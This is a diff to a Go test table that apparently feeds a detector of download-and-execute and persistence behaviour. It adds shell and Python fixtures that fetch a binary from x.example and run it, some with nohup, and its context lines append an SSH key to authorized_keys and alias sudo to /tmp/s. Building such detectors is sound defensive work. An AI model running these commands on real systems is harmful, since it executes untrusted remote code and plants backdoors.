@@ -109,6 +109,19 @@ func flows() []flow {
 		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'bin/a')\nos.chmod('bin/a', 0o755)", none},
 		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'a.csv')\nsubprocess.run(['python3', 'plot.py', 'a.csv'])", none},
 
+		{"a.sh", "F=$(mktemp); wget -qO \"$F\" https://x.example/u; chmod +x \"$F\"; \"$F\"", Pipe},
+		{"a.sh", "F=$(mktemp)\nwget -q -O \"$F\" https://x.example/u\nchmod +x \"$F\"\n\"$F\"", Pipe},
+		{"a.sh", "D=`mktemp -d`\nF=$D/u\ncurl -so $F https://x.example/u && chmod 700 $F && nohup $F &", Pipe},
+		{"a.sh", "D=$(mktemp -d)\ncurl -so \"$D/u\" https://x.example/u\nif ! \"$D/u\" -x; then y; fi", none},
+		{"a.sh", "F=$(mktemp)\ncurl -so \"$F\" https://x.example/u\nchmod +x \"$F\"\nmv \"$F\" /usr/local/bin/u", none},
+		{"a.sh", "F=$(mktemp)\ncurl -so \"$F\" https://x.example/u\na=(\"$F\" x)\npython3 -c \"f(open('$F'))\"; rm \"$F\"", none},
+		{"a.sh", "F=$(mktemp)\ncurl -so \"$F\" https://x.example/u\nX=$(cat \"$F\")\necho \"${F}: ${X}\"\n\"$X\"", none},
+		{"a.sh", "F=$(mktemp)\ncurl -so u https://x.example/u\n\"$F\"", none},
+		{"a.sh", "F=~/bin/u\ncurl -so \"$F\" https://x.example/u\nchmod +x \"$F\"\n\"$F\" --version", none},
+		{"a.py", "p, _ = urllib.request.urlretrieve(u)\nsubprocess.Popen([p])", Pipe},
+		{"a.py", "p = urlretrieve(u)[0]\nos.chmod(p, 0o755)\nos.execv(p, ['x'])", Pipe},
+		{"a.py", "p, _ = urllib.request.urlretrieve(u)\nsubprocess.run(['tar', 'xf', p])", none},
+
 		// started by others
 		{"a.sh", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", Unasked},
 		{"a.sh", "echo 'alias sudo=/tmp/s' >> ~/.bashrc", Unasked},
